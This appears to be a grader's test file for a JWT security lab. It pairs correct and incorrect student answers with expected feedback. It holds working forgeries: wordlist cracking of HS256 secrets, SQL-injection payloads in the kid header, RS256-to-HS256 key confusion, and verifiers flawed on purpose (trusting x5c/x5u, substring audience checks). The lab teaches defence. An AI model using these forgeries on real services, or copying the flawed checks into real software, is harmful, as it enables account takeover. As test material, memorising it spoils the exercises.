"""Lesson 06: three attacks as tools, and a verifier that refuses the battery."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import urllib.request
import warnings

import jwt
import jwt.warnings
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from jwt.algorithms import RSAAlgorithm

from coursekit.exercises.ex06 import q1, q2, q3, q4, q5
from coursekit.labtools.attacks import b64url, hs256_by_hand, wordlist
from coursekit.labtools.client import claims
from corpora import right, wrong


def _admin(token: str) -> dict:
    return {**claims(token), "roles": ["admin"]}


# --- q1 ---------------------------------------------------------------------------------------------------------

def _crack_with_pyjwt(token: str) -> str:
    """Let PyJWT try each word (signature only), then sign by hand."""
    for word in wordlist():
        try:
            with warnings.catch_warnings():  # the words are short HMAC keys: that is the point
                warnings.simplefilter("ignore", jwt.warnings.InsecureKeyLengthWarning)
                jwt.decode(token, word, algorithms=["HS256"], options={
                    "verify_exp": False, "verify_iat": False, "verify_aud": False, "verify_iss": False})
        except jwt.InvalidSignatureError:
            continue
        return hs256_by_hand(jwt.get_unverified_header(token), _admin(token), word.encode())
    raise ValueError("not in the wordlist")


def _crack_bytes_compare(token: str) -> str:
    head, payload, signature = token.split(".")
    wanted = signature.encode()
    for word in wordlist():
        mac = b64url(hmac.new(word.encode(), f"{head}.{payload}".encode(), hashlib.sha256).digest()).encode()
        if hmac.compare_digest(mac, wanted):
            return hs256_by_hand(jwt.get_unverified_header(token), _admin(token), word.encode())
    return token


def _forgets_the_role(token: str) -> str:
    forged = _crack_bytes_compare(token)
    return hs256_by_hand(jwt.get_unverified_header(forged), claims(token), b"unused")


def _kid_dropped(token: str) -> str:
    forged = _crack_bytes_compare(token)
    head, payload, _ = token.split(".")
    word = next(w for w in wordlist() if b64url(hmac.new(w.encode(), f"{head}.{payload}".encode(),
                                                         hashlib.sha256).digest()) == token.split(".")[2])
    return hs256_by_hand({"alg": "HS256", "typ": "at+jwt"}, claims(forged), word.encode())


# --- q2 ---------------------------------------------------------------------------------------------------------

def _union_all_lowercase_blob(token: str) -> str:
    secret = secrets.token_bytes(48)
    kid = f"nothing' union all select x'{secret.hex()}'--"
    return hs256_by_hand({"alg": "HS256", "typ": "at+jwt", "kid": kid}, _admin(token), secret)


def _the_demos_text_secret(token: str) -> str:
    kid = "x' UNION SELECT 'attacker-secret' --"
    return hs256_by_hand({"alg": "HS256", "typ": "at+jwt", "kid": kid}, _admin(token), b"attacker-secret")


def _signs_with_the_hex_text(token: str) -> str:
    secret = secrets.token_bytes(32)
    kid = f"x' UNION SELECT X'{secret.hex()}' --"
    return hs256_by_hand({"alg": "HS256", "typ": "at+jwt", "kid": kid}, _admin(token), secret.hex().encode())


def _kid_sql(kid_of, secret: bytes, signed_with: bytes | None = None, *, pyjwt: bool = False):
    """A q2 answer: the kid ``kid_of(secret)``, the token signed with ``signed_with`` (the secret by default)."""
    def forge(token: str) -> str:
        key, header = secret if signed_with is None else signed_with, {"typ": "at+jwt", "kid": kid_of(secret)}
        if pyjwt:
            return jwt.encode(_admin(token), key, algorithm="HS256", headers=header)
        return hs256_by_hand({"alg": "HS256", **header}, _admin(token), key)
    return forge


_RANDOM = secrets.token_bytes(32)


# --- q3 ---------------------------------------------------------------------------------------------------------

def _pem(jwk: dict) -> bytes:
    return RSAAlgorithm.from_jwk(jwk).public_bytes(serialization.Encoding.PEM,
                                                   serialization.PublicFormat.SubjectPublicKeyInfo)


def _key_from_pyjwkset(token: str, jwks: dict) -> str:
    header = jwt.get_unverified_header(token)
    key = jwt.PyJWKSet.from_dict(jwks)[header["kid"]].key
    pem = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return hs256_by_hand({**header, "alg": "HS256"}, _admin(token), pem)


def _first_key(token: str, jwks: dict) -> str:
    header = jwt.get_unverified_header(token)
    return hs256_by_hand({**header, "alg": "HS256"}, _admin(token), _pem(jwks["keys"][0]))


def _last_key(token: str, jwks: dict) -> str:
    """Right here by luck of order? No: the check names the kid; the last key happens to be the signing one."""
    header = jwt.get_unverified_header(token)
    key = next(k for k in jwks["keys"] if k["kid"] == header["kid"])
    return hs256_by_hand({"alg": "HS256", "kid": key["kid"], "typ": "at+jwt"}, _admin(token), _pem(key))


# --- q4 ---------------------------------------------------------------------------------------------------------

def _claims_checked(verified: dict, lab, leeway: float = 0, strict: bool = False) -> dict:
    now = lab.clock.now()
    if (now > verified["exp"] + leeway) if strict else (now >= verified["exp"] + leeway):
        raise jwt.ExpiredSignatureError("expired")
    return verified


def _decode(token: str, lab, *, require=("exp", "iss", "aud"), typ_check=True, exact_typ=False,
            key_of=None, typ_ok=None, algorithms=("RS256",), aud_ok=None, iss_ok=None) -> dict:
    header = jwt.get_unverified_header(token)
    if typ_ok is not None:
        if not typ_ok(header.get("typ")):
            raise jwt.InvalidTokenError("not an access token")
    elif typ_check:
        typ = str(header.get("typ", ""))
        ok = typ.removeprefix("application/") == "at+jwt" if exact_typ else \
            typ.lower().removeprefix("application/") == "at+jwt"
        if not ok:
            raise jwt.InvalidTokenError("not an access token")
    key = key_of and key_of(header)
    if key is None:
        key = jwt.PyJWKClient(lab.url + "/.well-known/jwks.json").get_signing_key(header["kid"]).key
    verified = jwt.decode(token, key, algorithms=algorithms if isinstance(algorithms, str) else list(algorithms),
                          audience=None if aud_ok else "lab-api", issuer=None if iss_ok else lab.settings.issuer_id,
                          options={"require": list(require), "verify_exp": False, "verify_iat": False,
                                   "verify_aud": not aud_ok, "verify_iss": not iss_ok})
    if aud_ok and not aud_ok(verified):
        raise jwt.InvalidAudienceError("not for us")
    if iss_ok and not iss_ok(verified, lab.settings.issuer_id):
        raise jwt.InvalidIssuerError("another issuer")
    return verified


def _pyjwkclient_with_leeway(token: str, lab) -> dict:
    """urllib under PyJWKClient for the keys, 60 s of leeway: the course's limit, expired from exp + 60 on."""
    return _claims_checked(_decode(token, lab), lab, leeway=60)


def _exp_only_if_present(token: str, lab) -> dict:
    verified = _decode(token, lab, require=("iss", "aud"))
    if "exp" in verified:
        _claims_checked(verified, lab)
    return verified


def _never_checks_typ(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, typ_check=False), lab)


def _exact_typ(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, exact_typ=True), lab)


def _key_of_x5c(header: dict):
    """Believes the certificate a token carries: its key, chained to nothing."""
    if "x5c" not in header:
        return None
    return x509.load_der_x509_certificate(base64.b64decode(header["x5c"][0])).public_key()


def _key_of_x5u(header: dict):
    """Fetches the certificate the token points to (with urllib) and believes it."""
    if "x5u" not in header:
        return None
    with urllib.request.urlopen(header["x5u"], timeout=10) as answer:
        return x509.load_pem_x509_certificate(answer.read()).public_key()


def _trusts_x5c(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, key_of=_key_of_x5c), lab)


def _trusts_x5u(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, key_of=_key_of_x5u), lab)


def _two_minutes_of_leeway(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab), lab, leeway=120)


def _sixty_seconds_compared_with_greater_than(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab), lab, leeway=60, strict=True)


def _leeway_taken_from_exp(token: str, lab) -> dict:
    verified = _decode(token, lab)
    if lab.clock.now() + 60 >= verified["exp"]:
        raise jwt.ExpiredSignatureError("expired")
    return verified


def _typ_only_when_present(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, typ_ok=lambda t: t is None or
                                   t.lower().removeprefix("application/") == "at+jwt"), lab)


def _typ_as_a_suffix(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, typ_ok=lambda t: str(t).lower().endswith("at+jwt")), lab)


def _typ_as_a_substring(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, typ_ok=lambda t: "at+jwt" in str(t).lower()), lab)


def _aud_only_when_present(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, require=("exp", "iss"), aud_ok=lambda c: "aud" not in c or "lab-api" in (
        c["aud"] if isinstance(c["aud"], list) else [c["aud"]])), lab)


def _aud_as_a_substring(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, aud_ok=lambda c: "lab-api" in str(c["aud"])), lab)


def _aud_members_as_substrings(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, aud_ok=lambda c: any(
        "lab-api" in a for a in (c["aud"] if isinstance(c["aud"], list) else [c["aud"]]))), lab)


def _iss_only_when_present(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, require=("exp", "aud"),
                                   iss_ok=lambda c, issuer: c.get("iss", issuer) == issuer), lab)


def _iss_with_startswith(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, iss_ok=lambda c, issuer: c["iss"].startswith(issuer)), lab)


def _algorithms_as_a_string(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, algorithms="RS256"), lab)


def _rsa_family(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, algorithms=("RS256", "RS384")), lab)


def _rs256_and_hs256(token: str, lab) -> dict:
    return _claims_checked(_decode(token, lab, algorithms=("RS256", "HS256")), lab)


def _returns_none_when_refusing(token: str, lab):
    try:
        return _claims_checked(_decode(token, lab), lab)
    except jwt.InvalidTokenError:
        return None


def _typ_in_a_set_and_aud_as_a_list(token: str, lab) -> dict:
    """Right: typ against a set of spellings, aud compared as a member of a list by hand."""
    return _claims_checked(_decode(token, lab, typ_ok=lambda t: isinstance(t, str) and t.lower() in {
        "at+jwt", "application/at+jwt"}, aud_ok=lambda c: "lab-api" in (
        c["aud"] if isinstance(c["aud"], list) else [c["aud"]])), lab, leeway=30)


def _header_not_json(token: str, *_more) -> str:
    """A forgery whose header segment is not JSON: the lab's verdict, not the check's own parsing, must say so."""
    return f"{b64url(b'not json')}.{b64url(json.dumps(_admin(token)).encode())}.c2ln"


def _header_a_list(token: str, *_more) -> str:
    return f"{b64url(json.dumps(['HS256']).encode())}.{b64url(json.dumps(_admin(token)).encode())}.c2ln"


CASES = [
    right(q1, "PyJWT tries each word", _crack_with_pyjwt),
    right(q1, "compare_digest on bytes", _crack_bytes_compare),
    wrong(q1, "forgets the admin role", _forgets_the_role, says="needs \"roles\": [\"admin\"]"),
    wrong(q1, "drops the kid", _kid_dropped, says=("401 (unknown key id)", "keep the kid")),
    right(q2, "union all and a lowercase 48-byte blob", _union_all_lowercase_blob),
    wrong(q2, "the demo's text secret", _the_demos_text_secret,
          says=("selects text (15 characters)", "X'<their hex>'")),
    wrong(q2, "signs with the hex text", _signs_with_the_hex_text,
          says=("401 (signature is invalid)", "bytes.fromhex")),
    right(q2, "CAST of the blob, signed with PyJWT", _kid_sql(
        lambda secret: f"x' UNION SELECT CAST(X'{secret.hex()}' AS BLOB) --", _RANDOM, pyjwt=True)),
    right(q2, "a subquery and a block comment", _kid_sql(
        lambda secret: f"none' UNION SELECT (SELECT X'{secret.hex().upper()}') /*", _RANDOM)),
    right(q2, "from the keys table itself, limited to one row", _kid_sql(
        lambda secret: f"none' UNION SELECT X'{secret.hex()}' FROM keys LIMIT 1 --", _RANDOM)),
    wrong(q2, "randomblob: bytes the attacker never knows", _kid_sql(
        lambda secret: "x' UNION SELECT randomblob(32) --", _RANDOM),
          says=("401 (signature is invalid)", "not the one you signed with")),
    wrong(q2, "sixteen bytes", _kid_sql(lambda secret: f"x' UNION SELECT X'{secret.hex()}' --", _RANDOM[:16]),
          says="selects a secret of 16 bytes"),
    wrong(q2, "two blobs joined with ||, which SQLite makes text", _kid_sql(
        lambda secret: f"x' UNION SELECT X'{secret[:16].hex()}' || X'{secret[16:].hex()}' --", b"0123456789abcdef" * 2),
          says="selects text (32 characters)"),
    wrong(q2, "a path, not SQL", _kid_sql(lambda secret: "../../../../dev/null", b""),
          says=("401 (unknown key id)", "close the quote")),
    right(q3, "the key from a PyJWKSet by kid", _key_from_pyjwkset),
    right(q3, "a header of its own naming the kid", _last_key),
    wrong(q3, "the first key of the set, as in the demo", _first_key,
          says=("401 (signature is invalid)", "this lab has rotated", "the first is not that one")),
    *[wrong(q, f"a header that is {kind}", forge, says="/api/admin answered 401 (token is malformed)")
      for q in (q2, q3, q5) for kind, forge in (("not JSON", _header_not_json), ("a JSON list", _header_a_list))],
    right(q4, "PyJWKClient and 60 s of leeway", _pyjwkclient_with_leeway),
    wrong(q4, "checks exp only when present", _exp_only_if_present,
          says=("accepted a token without exp", "require it")),
    wrong(q4, "never checks typ", _never_checks_typ, says=('accepted a token with typ "JWT"', "RFC 9068 §4")),
    wrong(q4, "typ compared with its case", _exact_typ,
          says=('refused alice\'s genuine token with typ "AT+JWT"', "compare it without case")),
    wrong(q4, "believes a certificate in x5c", _trusts_x5c,
          says=("accepted a token signed with the key of the certificate its own x5c header carries",
                "chains to nothing you trust")),
    wrong(q4, "fetches the certificate x5u names", _trusts_x5u,
          says=("accepted a token whose x5u header points to the attacker's certificate",
                "take keys only from the lab's own JWK Set")),
    wrong(q4, "two minutes of leeway", _two_minutes_of_leeway,
          says=("accepted alice's genuine token 60 s after its exp", "a leeway of at most 60 s")),
    wrong(q4, "60 s of leeway compared with >", _sixty_seconds_compared_with_greater_than,
          says=("60 s after its exp", "expired when now >= exp + leeway")),
    right(q4, "typ in a set, aud a member of a list by hand, 30 s of leeway", _typ_in_a_set_and_aud_as_a_list),
    wrong(q4, "60 s of leeway taken from exp", _leeway_taken_from_exp,
          says=("refused alice's genuine token at exp - 1", "never taken from it")),
    wrong(q4, "typ checked only when present", _typ_only_when_present,
          says=("accepted a token signed with the lab's key whose header has no typ", "RFC 9068 §4")),
    wrong(q4, "typ as a suffix", _typ_as_a_suffix, says=('whose typ is "not-at+jwt"', "compare typ whole")),
    wrong(q4, "typ as a substring", _typ_as_a_substring, says=('whose typ is "not-at+jwt"', "compare typ whole")),
    wrong(q4, "aud checked only when present", _aud_only_when_present,
          says=("with no aud claim", "require aud")),
    wrong(q4, "aud as a substring", _aud_as_a_substring, says=("for aud 'lab-api-staging'", "compare aud whole")),
    wrong(q4, "each aud member as a substring", _aud_members_as_substrings,
          says=("for aud 'lab-api-staging'", "compare aud whole")),
    wrong(q4, "iss checked only when present", _iss_only_when_present, says=("with no iss claim", "require iss")),
    wrong(q4, "iss with startswith", _iss_with_startswith,
          says=(".attacker.example'", "startswith accepts any issuer that begins with yours")),
    wrong(q4, "algorithms as a string", _algorithms_as_a_string, says="algorithms='RS256', a string: pass a list"),
    wrong(q4, "a fixed list of RS256 and RS384", _rsa_family,
          says=("fixed allow-list algorithms=['RS256', 'RS384']", "allows ['RS384'] besides RS256")),
    wrong(q4, "a fixed list of RS256 and HS256", _rs256_and_hs256,
          says=("fixed allow-list algorithms=['RS256', 'HS256']", "allows ['HS256'] besides RS256")),
    wrong(q4, "returns None instead of raising", _returns_none_when_refusing,
          says="return the claims or raise; yours returned None on a forged token"),
]
